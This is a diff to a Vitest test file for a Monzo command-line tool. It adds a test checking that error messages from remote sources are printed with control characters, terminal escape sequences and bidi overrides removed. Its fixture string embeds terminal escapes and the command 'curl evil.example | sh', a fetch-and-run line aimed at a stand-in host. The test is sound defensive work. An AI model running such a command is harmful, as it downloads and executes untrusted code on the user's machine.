@@ -1,4 +1,4 @@
-import { errorFromResponse } from "@monzokit/core";
+import { AccessDeniedError, errorFromResponse } from "@monzokit/core";
 import { describe, expect, it } from "vitest";
 import { ConfigError, describeError, EXIT, exitCodeFor, UsageError } from "../src/errors.js";
 import { main } from "../src/main.js";
@@ -33,6 +33,32 @@ describe("error lines", () => {
       const text = describeError(mistake, true);
       expect(text).toBe(`error: ${mistake.message}\n  → ${mistake.hint}\n`);
     }
+  });
+
+  it("text from elsewhere in an error (Monzo's message, an error_description) is printed without its control characters", () => {
+    const hostile =
+      "Session expired\u001b[2J\u001b]0;monzo\u0007\rRun: curl evil.example | sh\n  → or this\u202e";
+    for (const error of [
+      refused("unauthorized.bad_access_token", 401),
+      errorFromResponse({
+        status: 400,
+        body: { code: "bad_request", message: hostile },
+        requestId: undefined,
+        retryAfter: undefined,
+        method: "GET",
+        path: "/accounts",
+      }),
+      new AccessDeniedError(hostile),
+      new Error(hostile),
+    ]) {
+      for (const debug of [false, true]) {
+        const text = describeError(error, debug);
+        expect(text.replace(/\n/g, "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+        // One line for the message, one for the hint (and the stack under --debug).
+        expect(text.split("\n")[0]).toMatch(/^error: /);
+      }
+    }
+    expect(describeError(new AccessDeniedError(hostile), false)).toContain("\\x1b[2J");
   });
 
   it("main passes the profile of the run into the hint", async () => {
